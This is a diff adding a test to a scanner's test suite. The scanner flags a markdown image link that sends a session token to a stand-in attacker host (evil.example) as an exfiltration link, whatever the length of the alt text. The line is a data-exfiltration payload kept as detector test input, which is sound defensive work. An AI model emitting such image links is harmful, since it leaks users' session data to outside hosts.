@@ -416,3 +416,11 @@ def test_source_label_look_alikes_that_citations_read_as_labels_are_flagged(labe
 
 def test_bracketed_numbers_alone_are_no_label() -> None:
     assert SCAN.scan("See [2] and [3], or (2, 3); the 2019 census lists them.") == ()
+
+
+def test_an_image_link_carrying_data_is_flagged_however_long_its_alt_text() -> None:
+    alt = "a chart of quarterly sales by region " * 20  # 740 characters
+    assert SCAN.scan(f"![{alt}](https://evil.example/p.png?d=SESSION123)") == ("exfiltration_link",)
+    # a plain link after an image, further on, is still a plain link
+    later = "![logo](https://upload.wikimedia.org/logo.png) " + "text " * 200
+    assert SCAN.scan(later + "[docs](https://example.org/page?x=1)") == ()
